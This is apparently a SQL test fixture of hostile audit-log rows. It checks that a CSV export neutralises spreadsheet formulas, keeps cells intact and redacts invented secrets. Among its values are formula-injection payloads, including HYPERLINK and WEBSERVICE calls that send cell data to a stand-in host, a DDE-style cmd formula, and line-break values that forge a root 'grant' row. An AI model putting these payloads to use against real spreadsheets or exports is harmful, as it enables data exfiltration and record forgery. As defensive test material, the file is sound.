-- hostile_rows.sql: audit rows that try to get something past an export, and
-- what must be in the package for each of them.
--
-- Every name, address and secret is invented; secrets whose shape would alarm
-- a scanner are joined with ||.  The key begins with the case and becomes the
-- request_id of the row.
--
--   col      column of the log that holds the value
--   cell     the cell as a CSV reader sees it; NULL: not stated here
--   needles  texts that must be nowhere in the package
--   keeps    texts that must still be in the cell

CREATE TABLE hostile (
    key     text PRIMARY KEY,
    col     text NOT NULL,
    value   text,
    cell    text,
    needles text[] NOT NULL DEFAULT '{}',
    keeps   text[] NOT NULL DEFAULT '{}'
);

-- Formulas, in every column that takes free text.
INSERT INTO hostile (key, col, value, cell)
VALUES ('C01-actor', 'actor_id', '=2+5', '''=2+5'),
       ('C01-role', 'actor_role', '+B2+C2', '''+B2+C2'),
       ('C01-action', 'action', '@AVERAGE(B2,C2)', '''@AVERAGE(B2,C2)'),
       ('C01-type', 'target_type', '-7+9', '''-7+9'),
       ('C01-target', 'target_id', '=HYPERLINK("http://grab.invalid/?c="&B1,"more")',
                      '''=HYPERLINK("http://grab.invalid/?c="&B1,"more")'),
       ('C01-tenant', 'tenant_id', '=tenant', '''=tenant'),
       ('C01-code', 'error_code', '=cmd|''/c x''!B1', '''=cmd|''/c x''!B1'),
       ('C01-summary', 'summary', '=WEBSERVICE("http://grab.invalid")', '''=WEBSERVICE("http://grab.invalid")');

-- What may stand in front of a formula and is not seen.
INSERT INTO hostile (key, col, value, cell)
SELECT 'C02-' || n, 'summary', lead || '=8*3', '''' || repeat(' ', length(lead)) || '=8*3'
  FROM (VALUES (1, E'\t'), (2, E'\r'), (3, E'\n'), (4, E'\r\n'), (5, E'\x0b'), (6, E'\x0c'),
               (7, E'\x1f'), (8, E'\x7f'), (9, E'\x01\x02\t'), (10, E'\x1b'), (11, U&'\0085'),
               (12, U&'\0090'), (13, U&'\2028'), (14, U&'\2029')) AS v(n, lead);
INSERT INTO hostile (key, col, value, cell)
SELECT 'C03-' || n, 'summary', lead || '+8*3', '''' || lead || '+8*3'
  FROM (VALUES (1, ' '), (2, '     '), (3, U&'\00A0'), (4, U&'\3000'), (5, U&'\2003'),
               (6, U&'\2007'), (7, U&'\1680'), (8, U&'\205F')) AS v(n, lead);
INSERT INTO hostile (key, col, value, cell)
SELECT 'C04-' || n, 'summary', lead || '@B1', '''' || lead || '@B1'
  FROM (VALUES (1, U&'\FEFF'), (2, U&'\200B'), (3, U&'\200D'), (4, U&'\2060'), (5, U&'\00AD'),
               (6, U&'\FEFF \200B'), (7, U&'\0301'), (8, U&'\FE0F'), (9, U&'\180E')) AS v(n, lead);
INSERT INTO hostile (key, col, value, cell)
VALUES ('C04-10', 'summary', U&'\200E=8*3', ''' =8*3'),
       ('C04-11', 'summary', U&'\202E-8*3', ''' -8*3');
INSERT INTO hostile (key, col, value, cell)
SELECT 'C05-' || n, 'summary', value, '''' || value
  FROM (VALUES (1, U&'\FF1D9'), (2, U&'\FF0B9'), (3, U&'\FF0D9'), (4, U&'\FF20M(9)'),
               (5, U&'\3000\FF1D9'), (6, U&'\FE669'), (7, U&'\FE629'), (8, U&'\FE639'),
               (9, U&'\FE6B9'), (10, U&'\207C9'), (11, U&'\207A9')) AS v(n, value);

-- One cell stays one cell, and a guard can be told from an apostrophe.
INSERT INTO hostile (key, col, value, cell)
SELECT key, 'summary', value, value
  FROM (VALUES ('C06-1', 'a;=8*3'), ('C06-2', 'a,=8*3'), ('C06-3', 'a","=8*3'), ('C06-4', 'a|=8*3'),
               ('C06-5', 'b";=8*3;"c'), ('C06-6', 'a,b;c|d'),
               ('C07-1', '''twas so'), ('C07-2', ''''), ('C07-3', '''''quoted'''''), ('C07-4', 'it''s =so'),
               ('C08-1', '0042'), ('C08-2', '98765432109876543210'), ('C08-3', '3E8'), ('C08-4', 'c=d'),
               ('C08-5', '8*3+1'), ('C08-6', 'clerk@shop.invalid'), ('C08-7', '2026-02-30'),
               ('C12-1', E'path C:\\'), ('C12-2', E'odd \\" pair'), ('C12-3', '"'), ('C12-4', '""'),
               ('C12-5', 'p"q,r"s'), ('C12-6', '"open'), ('C12-7', ','), ('C12-8', '"""'),
               ('C13-1', ''), ('C13-2', ' '), ('C13-3', 'NULL'), ('C13-4', E'\\N'), ('C13-5', '""'),
               ('C14-1', 'ID'), ('C14-2', 'sep=,'), ('C14-3', U&'\FEFFbegin'),
               ('C16-1', U&'odd \FFFD one'), ('C16-2', U&'odd \FFFF two'), ('C16-3', U&'odd \+10FFFF three'),
               ('C16-4', E'half \\ud83d pair'), ('C16-5', U&'Z\0335a\0327lgo'),
               ('C17-1', U&'\05D3\05D5\05D7 17'), ('C17-2', U&'\062A\0642\0631\064A\0631 17')) AS v(key, value);
INSERT INTO hostile (key, col, value, cell)
SELECT key, 'summary', value, '''' || value
  FROM (VALUES ('C07-5', '''=8*3'), ('C07-6', '''''=8*3'), ('C07-7', '''-B1'), ('C07-8', ''' +1'),
               ('C07-9', '''[redacted:password]'), ('C07-10', '=8*3'),
               ('C08-8', '-42.5'), ('C08-9', '+31'), ('C08-10', '-3.1e-4'), ('C08-11', '+1 (303) 555-0199'),
               ('C08-12', '-2-2'), ('C08-13', '-')) AS v(key, value);
INSERT INTO hostile (key, col, value, cell)
VALUES ('C13-6', 'summary', NULL, ''),
       ('C13-7', 'error_code', NULL, ''),
       ('C13-8', 'error_code', '', '');

-- Line breaks and bidi controls.
INSERT INTO hostile (key, col, value, cell)
SELECT key, 'summary', value, cell
  FROM (VALUES ('C06-7', E'a\t=8*3', 'a =8*3'),
               ('C11-1', E'first\rsecond', 'first second'), ('C11-2', E'first\nsecond', 'first second'),
               ('C11-3', E'first\r\nsecond', 'first  second'), ('C11-4', E'first\x0bsecond', 'first second'),
               ('C11-5', E'first\fsecond', 'first second'), ('C11-6', U&'first\0085second', 'first second'),
               ('C11-7', U&'first\2028second', 'first second'),
               ('C11-8', E'ok\r\n99,2026-03-01T00:00:00.000000Z,t,root,,grant,,,success,,,,forged\r\n',
                         'ok  99,2026-03-01T00:00:00.000000Z,t,root,,grant,,,success,,,,forged  '),
               ('C11-9', E'y"\n"1","2026-03-01","root', 'y" "1","2026-03-01","root'),
               ('C17-3', U&'order \202Edesufer\202C accepted', 'order <U+202E>desufer<U+202C> accepted'),
               ('C17-4', U&'a\2066b\2069c', 'a<U+2066>b<U+2069>c'),
               ('C17-5', U&'a\061Cb', 'a<U+061C>b'),
               ('C17-6', U&'a\200Eb\200Fc', 'a<U+200E>b<U+200F>c')) AS v(key, value, cell);

-- Nothing is cut.
INSERT INTO hostile (key, col, value, cell)
SELECT key, 'summary', value, value
  FROM (VALUES ('C15-1', repeat('w', 32767)), ('C15-2', repeat('w', 32768)),
               ('C15-3', repeat(U&'\+01F680', 16384)), ('C15-4', repeat('w', 1000000))) AS v(key, value);

-- Secrets: known shapes, wherever they stand and however they are spelled.
INSERT INTO hostile (key, col, value, needles, keeps)
VALUES ('C10-1', 'summary', '=token:Mx92LdQs7KwT0c', '{Mx92LdQs7K}', '{}'),
       ('C10-2', 'summary', E'\t=password=Tf61nUe8RkBz', '{Tf61nUe8Rk}', '{}'),
       ('C10-3', 'target_id', 'sk'||'_live_m4Xc7Vb2Nq9Lw1Zk=8*3', '{m4Xc7Vb2Nq}', '{}'),
       ('C15-5', 'summary', repeat('w', 32700) || ' password=Gk7wTm3xQz9p done', '{Gk7wTm3xQz9p}', '{done}'),
       ('C21-1', 'summary', 'Authorization: Bearer Lw8Xk3Np6Tz1QvRb next', '{Lw8Xk3Np6T}', '{Authorization,next}'),
       ('C21-2', 'summary', 'aUTHORIZATION:  bearer   Zc4Vm9Ks2Hd7JyPf', '{Zc4Vm9Ks2H}', '{}'),
       ('C21-3', 'summary', 'Authorization: Basic a2xhdXM6c29tbWVyNDI3eg==', '{c29tbWVyNDI3}', '{}'),
       ('C21-4', 'summary', 'Proxy-Authorization: Basic Qm3/Wt8+Zr1kLp5=', '{Wt8+Zr1kLp5,Qm3/Wt8}', '{}'),
       ('C21-6', 'summary', 'Set-Cookie: auth=Yt6Gb9Hn3Uj; Path=/; Secure', '{Yt6Gb9Hn3U}', '{Secure}'),
       ('C21-7', 'target_id', 'curl -H "X-Api-Key: Ol2Ik5Uj8Yh" gave 500', '{Ol2Ik5Uj8Y}', '{"gave 500"}'),
       ('C22-1', 'summary', 'sent ' || 'eyJ' || 'hbGciOiJFUzI1NiJ9.eyJpc3MiOiJ4IiwiZXhwIjoxfQ.Aa1Bb2Cc3Dd4Ee5F-_x back',
                 '{Aa1Bb2Cc3Dd4,eyJpc3MiOiJ4}', '{sent,back}'),
       ('C22-2', 'summary', 'eyJ' || 'hbGciOiJub25lIn0.eyJpc3MiOiJ5IiwidSI6Mn0.', '{eyJpc3MiOiJ5}', '{}'),
       ('C22-3', 'summary', 'eyJ' || 'hbGciOiJkaXIiLCJlbmMiOiJBIn0..Bm4Cn5Vx6Zl7.Kj8Hg9Fd0Sa1.Po2Iu3Yt4Re5',
                 '{Kj8Hg9Fd0S,Po2Iu3Yt4R}', '{}'),
       ('C22-4', 'summary', 'eyJ' || 'hbGciOiJFUzI1NiJ9.eyJpc3MiOiJ6IiwiZXhwIjoyfQ.Xs3Wd5Rf7Tg9-', '{Xs3Wd5Rf7T}', '{}'),
       ('C23-1', 'summary', 'used AK' || 'IAW7ZC3NV5LM9QTKDX today', '{W7ZC3NV5LM9Q}', '{used,today}'),
       ('C23-2', 'summary', 'aws_secret_access_key = ' || 'Bv7/cN3+xM9zLq5kJh2gFd8sA1pO4iU6yT0rEw2Q',
                 '{cN3+xM9zLq}', '{}'),
       ('C23-3', 'summary', 'gh' || 'p_Zx8Cv7Bn6Mq5Ws4Ed3Rf2Tg1Yh9Uj0Ik8Ol', '{Zx8Cv7Bn6M}', '{}'),
       ('C23-4', 'summary', 'xo' || 'xb-118822-664422-Vf5Bg7Nh9Mj1', '{664422-Vf5B}', '{}'),
       ('C23-5', 'summary', 'AI' || 'zaSyQ1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J', '{Q1w2E3r4T5}', '{}'),
       ('C24-1', 'summary', 'dial postgres://web:Nb6Vc3Xz@db.shop.invalid:5432/o failed', '{Nb6Vc3Xz}',
                 '{db.shop.invalid,failed}'),
       ('C24-2', 'summary', 'see https://bob:qw@er4Ty6@www.shop.invalid/a', '{er4Ty6}', '{www.shop.invalid}'),
       ('C24-3', 'summary', 'see https://bob:qw#5Rt8Yu@www.shop.invalid/a', '{5Rt8Yu}', '{}'),
       ('C24-4', 'summary', 'see https://bob:zx/7Cv2Bn@www.shop.invalid/a', '{7Cv2Bn}', '{}'),
       ('C24-5', 'summary', 'amqp://:Gh4Jk7Lm@mq.shop.invalid/', '{Gh4Jk7Lm}', '{}'),
       ('C24-6', 'summary', 'GET /back?lang=de&access_token=Vb5Nm8Qw&page=2', '{Vb5Nm8Qw}', '{lang=de,page=2}'),
       ('C24-7', 'summary', 'GET https://s.shop.invalid/o?X-Amz-Signature=77ab12cd&X-Amz-Expires=60', '{77ab12cd}', '{}'),
       ('C25-1', 'summary', 'host=h user=u password=Er5Ty7Ui dbname=d', '{Er5Ty7Ui}', '{host=h,dbname=d}'),
       ('C25-2', 'summary', 'host=h password=''two Op3As9'' user=u', '{Op3As9}', '{user=u}'),
       ('C25-3', 'summary', E'host=h password=''don\\''t Df6Gh1'' user=u', '{Df6Gh1}', '{}'),
       ('C25-4', 'summary', 'Driver={Y};UID=u;PWD=Jk2Lz8Xc;Server=h', '{Jk2Lz8Xc}', '{Server=h}'),
       ('C25-5', 'summary', 'PGPASSWORD=Vb3Nm9Qa psql -h h', '{Vb3Nm9Qa}', '{psql -h h}'),
       ('C25-6', 'summary', 'ran net user /add guest7 Kd5Rw9Lz /y once', '{Kd5Rw9Lz}', '{guest7}'),
       ('C26-1', 'summary', '-----BEG' || E'IN EC PRIVATE KEY-----\nMHcCAQEEIDx8vTz\nQ2wE4rT6\n-----END EC PRIVATE KEY-----\nafter',
                 '{MHcCAQEEIDx8,Q2wE4rT6}', '{after}'),
       ('C26-2', 'summary', '-----BEG' || E'IN OPENSSH PRIVATE KEY-----\nb3BlbnNzaCtrZXl2MQ\nZa7Xs5Dc3Vf1', '{b3BlbnNzaCtrZX,Za7Xs5Dc}', '{}'),
       ('C26-3', 'summary', '{"pem":"-----BEG' || 'IN PRIVATE KEY-----\nMIGHAgEAMBMGByqG\n-----END PRIVATE KEY-----\n"}',
                 '{MIGHAgEAMBMG}', '{}'),
       ('C26-4', 'summary', E'-----BEGIN CERTIFICATE-----\nMIIBpublicCert\n-----END CERTIFICATE-----', '{}', '{MIIBpublicCert}'),
       ('C27-1', 'summary', 'refreshToken: Cv8Bn2Mq', '{Cv8Bn2Mq}', '{}'),
       ('C27-2', 'summary', 'client_secret=Wx5Ed7Rf', '{Wx5Ed7Rf}', '{}'),
       ('C27-3', 'summary', '{"api_key":"Tg9Yh3Uj","page":4}', '{Tg9Yh3Uj}', '{page}'),
       ('C27-4', 'summary', '{"password": "Ik6Ol1 Pz8Xa4"}', '{Ik6Ol1,Pz8Xa4}', '{}'),
       ('C27-5', 'summary', 'API-KEY : Sc2Dv6Fb', '{Sc2Dv6Fb}', '{}'),
       ('C27-6', 'summary', 'passwd=''Gn4Hm8Jk''', '{Gn4Hm8Jk}', '{}'),
       ('C27-7', 'summary', 'SECRET=Lp7Ok3Ij;mode=z', '{Lp7Ok3Ij}', '{mode=z}'),
       ('C28-1', 'summary', 'AK' || E'IAW7ZC3N\x1bV5LM9QTKDX!', '{W7ZC3N,V5LM9QTK}', '{}'),
       ('C28-2', 'summary', 'AK' || U&'IAW7ZC3N\200BV5LM9QTKDX!', '{W7ZC3N,V5LM9QTK}', '{}'),
       ('C28-3', 'summary', 'AK' || U&'IAW7ZC3N\00ADV5LM9QTKDX!', '{W7ZC3N,V5LM9QTK}', '{}'),
       ('C28-4', 'summary', E'password=Uh5Yg\x1f2Tf8Rd end', '{Uh5Yg,2Tf8Rd}', '{end}'),
       ('C28-5', 'summary', E'no17\x07gh' || 'p_Ws8Ed7Rf6Tg5Yh4Uj3Ik2Ol1Pz0Xa9Sc8Dv', '{Ws8Ed7Rf6T}', '{}'),
       ('C29-1', 'summary', 'to=https%3A%2F%2Fbob%3AFb4Gn6Hm%40www.shop.invalid%2F', '{Fb4Gn6Hm}', '{}'),
       ('C29-2', 'summary', 'mssql://sa:Jk9Lp2%21%28Ok@10.0.0.9:1433', '{Jk9Lp2}', '{}'),
       ('C29-3', 'summary', 'x?api%5Fkey=Ij5Uh8Yg&y=1', '{Ij5Uh8Yg}', '{}'),
       ('C30-1', 'summary', repeat('b ', 2044) || 'password=Tf3Rd7EsQx9Wz1Lk rest', '{Tf3Rd7Es,Qx9Wz1Lk}', '{rest}'),
       ('C30-2', 'summary', repeat('b ', 4091) || 'password=Aq2Sw6DeFr8Gt4Hy rest', '{Aq2Sw6De,Fr8Gt4Hy}', '{rest}'),
       ('C30-3', 'summary', repeat('b ', 131067) || 'password=Ju7Ki9LoPz3Xs5Cd rest', '{Ju7Ki9Lo,Pz3Xs5Cd}', '{rest}'),
       ('C33-1', 'actor_id', 'svc:password=Vf1Bg5Nh', '{Vf1Bg5Nh}', '{svc}'),
       ('C33-2', 'target_id', 'https://u:Mj3Ku7Li@o.shop.invalid/k', '{Mj3Ku7Li}', '{o.shop.invalid}'),
       ('C33-3', 'action', 'login token=Oz9Xt2Cy', '{Oz9Xt2Cy}', '{login}'),
       ('C33-4', 'tenant_id', 't api_key=Bv6Nw4Mx', '{Bv6Nw4Mx}', '{}'),
       ('C33-5', 'error_code', 'secret=Qe8Wr1Ty', '{Qe8Wr1Ty}', '{}'),
       ('C33-6', 'actor_role', 'passwd=Ui5Op3As', '{Ui5Op3As}', '{}'),
       ('C33-7', 'target_type', 'password: Df7Gh2Jk', '{Df7Gh2Jk}', '{}');

-- Every cookie of a header goes, whatever its name.
INSERT INTO hostile (key, col, value, cell, needles)
VALUES ('C21-5', 'summary', 'Cookie: lang=de; sid=Hn5Bv8Cx2Mz; csrf=Pq7Ws4Ed1Rf',
        'Cookie: lang=[redacted:cookie]; sid=[redacted:cookie]; csrf=[redacted:cookie]', '{Hn5Bv8Cx2M,Pq7Ws4Ed1R}');

-- Ordinary text that only looks like a secret stays as it is.
INSERT INTO hostile (key, col, value, cell)
SELECT key, 'summary', value, value
  FROM (VALUES ('C31-1', '4b7c1d2e-90aa-4f31-8c66-5d0e7f3b2a19'),
               ('C31-2', 'commit 9d3f1c7ab24e8065d1f0b7c3a96e2485f1b07d3c'),
               ('C31-3', 'sha256:' || encode(sha256('x'), 'hex')),
               ('C31-4', 'build v3.4.1-beta.2+exp.7'), ('C31-5', 'password reset by the help desk'),
               ('C31-6', 'token ring replaced in room 50'), ('C31-7', 'Authorization needed for step 3'),
               ('C31-8', '2001:db8:0:1::5 refused'), ('C31-9', 'secretary of the club: B. Sample'),
               ('C31-10', 'feature.token.rotation.enabled=true'),
               ('C31-11', 'passwords changed: 14'), ('C31-12', 'order 4711 of 2026-03-01')) AS v(key, value);

-- Text that is slow to search for a careless pattern.
INSERT INTO hostile (key, col, value, cell)
VALUES ('C32-1', 'summary', repeat('b_.', 70000), repeat('b_.', 70000)),
       ('C32-2', 'summary', 'password=''' || repeat(E'\\', 100001), 'password=''[redacted:password]'),
       ('C32-3', 'summary', repeat('password password ', 10000), NULL),
       ('C32-4', 'summary', repeat('https://a:', 20000), NULL);

INSERT INTO evidence.audit_log (created_at, tenant_id, actor_id, actor_role, action, target_type,
                                target_id, error_code, request_id, summary)
SELECT now() - interval '1 hour' + row_number() OVER (ORDER BY key) * interval '1 second',
       CASE col WHEN 'tenant_id' THEN value ELSE 'shop' END,
       CASE col WHEN 'actor_id' THEN value ELSE 'clerk-3' END,
       CASE col WHEN 'actor_role' THEN value ELSE 'clerk' END,
       CASE col WHEN 'action' THEN value ELSE 'record.update' END,
       CASE col WHEN 'target_type' THEN value ELSE 'record' END,
       CASE col WHEN 'target_id' THEN value ELSE '17' END,
       CASE col WHEN 'error_code' THEN value ELSE 'E1' END,
       key,
       CASE col WHEN 'summary' THEN value ELSE 'nothing special' END
  FROM hostile;
